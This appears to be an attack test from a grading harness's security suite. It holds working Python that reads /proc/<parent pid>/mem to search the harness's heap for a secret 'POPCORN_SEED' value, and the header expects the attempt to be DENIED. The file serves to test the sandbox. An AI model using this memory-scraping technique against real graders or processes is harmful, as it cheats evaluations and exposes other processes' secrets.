# 4b pool_ppid_memory
# attempts: to find the seed in the harness's memory through /proc/PPID/mem, from a process of the
#   harness's pool
# required: DENIED
# task: pool_py
# mode: ranked
# cannot-stop: the custom engine's harness knows the seed, shares the submission's user, and /proc lets a user into the
#   memory of its own processes
import os
import re
from attack import attempt, custom_kernel as right


def search(pid):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            if "rw-p" not in line or not ("[heap]" in line or line.endswith(" 0 \n")):
                continue
            first, last = (int(part, 16) for part in line.split()[0].split("-"))
            memory.seek(first)
            found = re.search(rb"POPCORN_SEED=\d+", memory.read(min(last - first, 64 << 20)))
            if found:
                return found[0]


def custom_kernel(data):
    attempt("read the memory of the harness", search, os.getppid())
    right([])
    return [2 * value for value in data]
